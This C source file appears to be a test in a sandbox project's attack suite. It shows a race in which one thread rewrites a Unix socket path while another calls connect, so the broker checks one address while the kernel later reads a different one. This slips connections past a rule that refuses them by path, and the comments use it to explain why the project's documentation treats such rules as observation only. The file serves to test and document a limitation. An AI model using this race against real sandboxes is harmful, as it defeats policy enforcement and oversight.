// A rule on connect by address is judged on the address the broker reads;
// the call it lets through is CONTINUEd and the kernel reads the sockaddr
// from the workload's memory again. A thread flips the sun_path of one
// sockaddr_un between a path no rule refuses and the refused listener's,
// while the main thread connects with it: the listener receives connections
// the rule refused by name. docs/security.md states rules on connect by
// address as an observation; this shows why.
//   connect-race LISTENER
// Both paths have the same length and differ in one aligned 8-byte word, so
// one store switches the whole path. Each connection that got through
// writes "zviz-race" to the listener.
// Lines: "honest-refused" and "honest-allowed" (a connect to each, no race:
// the allowed path does not exist, ENOENT), then
// "race tries=N connected=C refused=R other=O", "finished ok".
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>

static struct sockaddr_un addr;
static uint64_t refused_word, allowed_word;
static size_t word_at;
static atomic_int stop;

static void* flip(void* arg) {
  (void)arg;
  volatile uint64_t* word = (volatile uint64_t*)((char*)&addr + word_at);
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    *word = allowed_word;
    *word = refused_word;
  }
  return NULL;
}

static int try_connect(void) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -errno;
  int rc = connect(fd, (struct sockaddr*)&addr, sizeof(addr));
  int err = rc == 0 ? 0 : errno;
  if (rc == 0 && write(fd, "zviz-race", 9) != 9) err = EIO;
  close(fd);
  return -err;
}

static void honest(const char* name) {
  int rc = try_connect();
  errno = -rc;
  outcome(name, rc);
}

int main(int argc, char** argv) {
  if (argc < 2 || strlen(argv[1]) + 1 > sizeof(addr.sun_path) || strlen(argv[1]) < 16) {
    say("usage connect-race LISTENER (16 to 107 bytes)");
    return 2;
  }
  addr.sun_family = AF_UNIX;
  strcpy(addr.sun_path, argv[1]);
  // The last whole aligned word of the path: its bytes are rewritten to
  // "zvizNONE" (a path that does not exist) and back.
  size_t end = offsetof(struct sockaddr_un, sun_path) + strlen(argv[1]);
  word_at = (end - 8) & ~(size_t)7;
  memcpy(&refused_word, (char*)&addr + word_at, 8);
  memcpy(&allowed_word, (char*)&addr + word_at, 8);
  memcpy(&allowed_word, "zvizNONE", 8);
  if (memchr(&allowed_word, 0, 8) != NULL) {
    say("usage bad word");
    return 2;
  }
  honest("honest-refused");
  memcpy((char*)&addr + word_at, &allowed_word, 8);
  honest("honest-allowed");
  memcpy((char*)&addr + word_at, &refused_word, 8);

  pthread_t flipper;
  if (pthread_create(&flipper, NULL, flip, NULL) != 0) {
    outcome("flipper", -1);
    return 1;
  }
  long tries = 0, connected = 0, refused = 0, other = 0;
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  while ((connected < 3 || tries < 200) && tries < 20000) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec - start.tv_sec > 20) break;
    tries++;
    int rc = try_connect();
    if (rc == 0) {
      connected++;
    } else if (rc == -EPERM) {  // the rule's answer
      refused++;
    } else {
      other++;  // ENOENT: the kernel read the path that does not exist
    }
  }
  atomic_store(&stop, 1);
  pthread_join(flipper, NULL);
  say("race tries=%ld connected=%ld refused=%ld other=%ld", tries, connected, refused, other);
  say("finished ok");
  return 0;
}
